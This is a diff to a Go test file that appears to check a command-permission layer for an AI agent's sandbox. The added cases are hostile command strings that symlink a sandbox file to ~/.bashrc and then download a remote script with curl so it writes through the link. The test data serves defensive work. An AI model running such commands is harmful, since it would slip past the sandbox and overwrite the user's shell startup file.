@@ -74,7 +74,12 @@ func TestPrintedOperandTargets(t *testing.T) {
 		// run time knows.
 		{`cp /tmp/p "$(some-tool --where)"`, "ask"},
 		{`rm -f "$(some-tool --where)"`, "ask"},
+		// A link into the sandbox whose target only run time knows: the
+		// rewritten download would write through it.
+		{`mkdir -p agent_sandbox && ln -s "$(command echo ~/.bashrc)" agent_sandbox/x.sh; curl -s -o x.sh https://example.com/p.sh`, "ask"},
+		{`ln -s "$(mystery)" agent_sandbox/x.sh; curl -s -o x.sh https://example.com/p.sh`, "ask"},
 		// Look-alikes.
+		{`ln -s "$(mystery)" lib/x; curl -s -o y.sh https://example.com/p.sh`, "rewrite"},
 		{`rm -f "$(mktemp)"`, "allow"},
 		{`mv $(ls *.txt) old/`, "allow"},
 		{`chmod +x $(find . -name '*.sh')`, "allow"},
